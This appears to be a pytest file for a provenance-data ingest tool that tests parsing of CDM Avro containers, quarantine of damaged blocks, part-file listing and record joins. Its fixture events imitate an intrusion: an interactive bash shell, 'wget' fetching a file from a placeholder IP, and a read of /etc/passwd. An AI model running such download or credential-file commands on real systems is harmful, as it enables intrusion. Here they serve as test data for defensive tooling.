"""CDM Avro containers (Engagement 5's release format): records decoded with their embedded schema, joined like JSON
lines, counted as the file's lines; a cut container quarantines what it cannot read; E3/E5 part files are listed."""

from __future__ import annotations

import gzip
import io
import logging
import uuid
from collections import Counter
from pathlib import Path
from typing import Any

import fastavro
import pyarrow as pa
import pytest

from aptray.config import IngestConfig
from aptray.io import cdm
from aptray.io.files import CountingStream, record_lines
from aptray.io.fs import InputFile, has_suffix, list_files

NS = "com.bbn.tc.schema.avro.cdm20"
_UUID = {"type": "fixed", "name": "UUID", "namespace": NS, "size": 16}
_PROPS = ["null", {"type": "map", "values": "string"}]
#: A subset of CDM20's TCCDMDatum (the real one is ../shared/data/cdm/schema/TCCDMDatum.avsc), same names and shapes.
SCHEMA = {
    "type": "record", "name": "TCCDMDatum", "namespace": NS, "fields": [
        {"name": "datum", "type": [
            {"type": "record", "name": "Subject", "fields": [
                {"name": "uuid", "type": _UUID},
                {"name": "cid", "type": "int"},
                {"name": "parentSubject", "type": ["null", "UUID"]},
                {"name": "cmdLine", "type": ["null", "string"]},
                {"name": "properties", "type": _PROPS}]},
            {"type": "record", "name": "Event", "fields": [
                {"name": "uuid", "type": "UUID"},
                {"name": "type", "type": "string"},
                {"name": "subject", "type": ["null", "UUID"]},
                {"name": "predicateObjectPath", "type": ["null", "string"]},
                {"name": "timestampNanos", "type": "long"},
                {"name": "properties", "type": _PROPS}]},
        ]},
        {"name": "CDMVersion", "type": "string"},
        {"name": "hostId", "type": "UUID"},
    ]}
HOST = uuid.UUID("107e3aa8-1e08-5ce2-ae68-e235619da305")


def _subject(u: uuid.UUID, pid: int, cmd: str, parent: uuid.UUID | None = None) -> dict[str, Any]:
    body = {"uuid": u.bytes, "cid": pid, "parentSubject": parent.bytes if parent else None, "cmdLine": cmd,
            "properties": {"path": cmd.split()[0], "ppid": "1"}}
    return {"datum": (f"{NS}.Subject", body), "CDMVersion": "20", "hostId": HOST.bytes}


def _event(u: uuid.UUID, subject: uuid.UUID, action: str, path: str, t: int) -> dict[str, Any]:
    body = {"uuid": u.bytes, "type": action, "subject": subject.bytes, "predicateObjectPath": path,
            "timestampNanos": t, "properties": None}
    return {"datum": (f"{NS}.Event", body), "CDMVersion": "20", "hostId": HOST.bytes}


def _container(records: list[dict[str, Any]]) -> bytes:
    """An Avro container of ``records``, one block per record (``sync_interval=1``)."""
    out = io.BytesIO()
    fastavro.writer(out, fastavro.parse_schema(SCHEMA), records, sync_interval=1, codec="null")
    return out.getvalue()


SHELL, WGET = uuid.UUID(int=0xA1), uuid.UUID(int=0xA2)
RECORDS = [
    _event(uuid.UUID(int=1), WGET, "EVENT_READ", "/etc/passwd", 1552400477281204100),  # before its subject
    _subject(SHELL, 100, "/bin/bash -i"),
    _subject(WGET, 4242, "/usr/bin/wget http://203.0.113.9/x", parent=SHELL),
    _event(uuid.UUID(int=2), WGET, "EVENT_WRITE", "/tmp/x", 1552400477381204100),
]


def _parse(data: bytes, name: str = "t.bin") -> tuple[pa.Table, dict[str, Any]]:
    lines: Counter[str] = Counter()
    stream = CountingStream(io.BufferedReader(io.BytesIO(data)))
    file = InputFile(name, name, len(data))
    table = pa.concat_tables(list(cdm.parse(stream, file, IngestConfig(source="cdm"), lines)))
    return table, record_lines(file, stream.lines, lines, None, container=stream.units is not None)


def test_an_avro_container_parses_like_json_lines_and_its_records_are_its_lines() -> None:
    table, counts = _parse(_container(RECORDS))
    from aptray.io.engine import LocalEngine

    rows = {r["action"]: r for r in cdm.assemble(LocalEngine(), table, IngestConfig(source="cdm"), None).to_pylist()}
    read = rows["EVENT_READ"]
    assert read["record_id"] == "00000000-0000-0000-0000-000000000001"  # 16 raw bytes -> the canonical UUID
    assert (read["pid"], read["exe"], read["parent_exe"]) == (4242, "/usr/bin/wget", "/bin/bash")  # a late subject
    assert read["object_path"] == "/etc/passwd" and read["host"] == str(HOST)
    assert read["timestamp"] == pytest.approx(1552400477.2812042)
    assert counts["lines"] == 4 and (counts["record"], counts["context"], counts["unaccounted"]) == (2, 2, 0)


def test_a_cut_container_keeps_what_it_read_and_quarantines_the_rest_with_a_reason() -> None:
    data = _container(RECORDS * 50)
    table, counts = _parse(data[: len(data) // 2])
    kinds = Counter(table.column("kind").to_pylist())
    (bad,) = [r for r in table.to_pylist() if r["kind"] == "quarantine"]
    assert bad["quarantine_reason"].startswith("unreadable Avro block after record")
    assert "the file ends there" in bad["quarantine_reason"]
    read = kinds["event"] + kinds["subject"]
    assert 40 < read < 200 and bad["line"] == read + 1
    assert counts["lines"] == read + 1 and counts["quarantined"] == 1 and counts["unaccounted"] == 0

    table, counts = _parse(b"Obj\x01" + b"\x00" * 7)  # a header that is not one
    (bad,) = table.to_pylist()
    assert bad["quarantine_reason"].startswith("unreadable Avro container header") and counts["lines"] == 1


def test_a_damaged_block_costs_that_block_and_reading_resumes_at_the_next_sync_marker() -> None:
    data = bytearray(_container(RECORDS * 50))  # 200 records, one block each
    middle = len(data) // 2
    data[middle : middle + 8] = b"\xff" * 8
    table, counts = _parse(bytes(data))
    rows = table.to_pylist()
    (bad,) = [r for r in rows if r["kind"] == "quarantine"]
    assert "reading resumed at the next block" in bad["quarantine_reason"]
    good = [r for r in rows if r["kind"] != "quarantine"]
    assert 196 <= len(good) < 200  # the damaged block (and at most its neighbour) lost, not the second half
    assert max(r["line"] for r in good) > bad["line"]  # records after the damage are read
    assert counts["lines"] == len(good) + 1 and counts["unaccounted"] == 0


def test_part_numbered_files_are_listed_and_others_named_in_a_warning(tmp_path: Path,
                                                                      caplog: pytest.LogCaptureFixture) -> None:
    # E3 releases cut a trace into x.json, x.json.1, ...; E5 into x.bin.1.gz, ...; logrotate writes audit.log.1
    assert has_suffix("ta1-theia-e3-official-6r.json.8", cdm.SUFFIXES)
    assert has_suffix("ta1-theia-1-e5-official-1.bin.12.gz", cdm.SUFFIXES)
    assert has_suffix("ta1-trace-1-e5-official-1.bin.1.json.2", cdm.SUFFIXES)
    assert not has_suffix("ta1-cadets-e3-official.json.tar.gz", cdm.SUFFIXES)
    assert not has_suffix("notes.1", cdm.SUFFIXES)
    for name in ("t.json", "t.json.1", "t.json.2", "README.md"):
        (tmp_path / name).write_text("{}\n")
    with caplog.at_level(logging.WARNING, logger="aptray.io.fs"):
        _, files = list_files(str(tmp_path), cdm.SUFFIXES)
    assert [f.rel for f in files] == ["t.json", "t.json.1", "t.json.2"]
    assert "1 file(s)" in caplog.text and "README.md" in caplog.text


def test_e5_style_parts_read_through_ray_with_gzip(ray_cluster: None, tmp_path: Path) -> None:
    half = len(RECORDS) // 2
    (tmp_path / "ta1-x-1-e5-official-1.bin.1.gz").write_bytes(gzip.compress(_container(RECORDS[:half])))
    (tmp_path / "ta1-x-1-e5-official-1.bin.2").write_bytes(_container(RECORDS[half:]))
    rows = cdm.read(str(tmp_path), IngestConfig(source="cdm")).take_all()
    assert sorted(r["action"] for r in rows) == ["EVENT_READ", "EVENT_WRITE"]
    assert all(r["quarantine_reason"] is None and r["pid"] == 4242 for r in rows)  # joined across the two parts


def test_real_theia_cdm20_avro(ray_cluster: None, shared_data: Path) -> None:
    path = shared_data / "cdm" / "theia_cdm20_avro" / "ripe-unit-tests.bin"
    with path.open("rb") as fh:  # independently: fastavro's own records, UUIDs hex-formatted here
        events = {str(uuid.UUID(bytes=rec["datum"][1]["uuid"]))
                  for rec in fastavro.reader(fh, return_record_name=True, handle_unicode_errors="replace")
                  if rec["datum"][0].endswith(".Event")}
    rows = cdm.read(str(path.parent), IngestConfig(source="cdm")).take_all()
    assert not [r for r in rows if r["quarantine_reason"]]
    assert len(rows) == len(events) == 12299 and {r["record_id"] for r in rows} == events
    assert sum(r["pid"] is not None and r["exe"] is not None for r in rows) / len(rows) > 0.95
    assert all(r["host"] == str(HOST) for r in rows)


def test_a_summary_says_when_its_lines_are_avro_records() -> None:
    from aptray.commands.summary import lines_read
    from aptray.io.files import sum_line_counts

    _, avro = _parse(_container(RECORDS))
    json_file = {"lines": 3, "record": 2, "quarantined": 0, "blank": 1, "header": 0, "context": 0, "unaccounted": 0}
    mixed = sum_line_counts([avro, json_file])
    assert (mixed["lines"], mixed["container_records"]) == (7, 4)
    assert lines_read({"lines": mixed}, 4, "scored")[0].startswith("lines read: 7 (4 of them Avro records): ")
    assert lines_read({"lines": sum_line_counts([avro])}, 2, "scored")[0].startswith(
        "lines read: 4 (all of them Avro records): ")
    assert "container_records" not in sum_line_counts([json_file])  # JSON-only counts keep their keys


def test_an_empty_part_file_does_not_break_the_shuffled_join(ray_cluster: None, shared_data: Path,
                                                              tmp_path: Path) -> None:
    # an empty part leaves a block without columns; in a shuffle map task of its own it gave every partition an
    # empty shard of no columns, which Ray's reduce failed to concatenate with the real ones (ArrowInvalid)
    import shutil

    shutil.copy(shared_data / "cdm" / "theia_cdm20_avro" / "ripe-unit-tests.bin", tmp_path / "t.bin.1")
    (tmp_path / "t.bin.2").write_bytes(b"")
    rows = cdm.read(str(tmp_path), IngestConfig(source="cdm", join_in_one_task_bytes=0)).take_all()
    assert len(rows) == 12299 and not [r for r in rows if r["quarantine_reason"]]
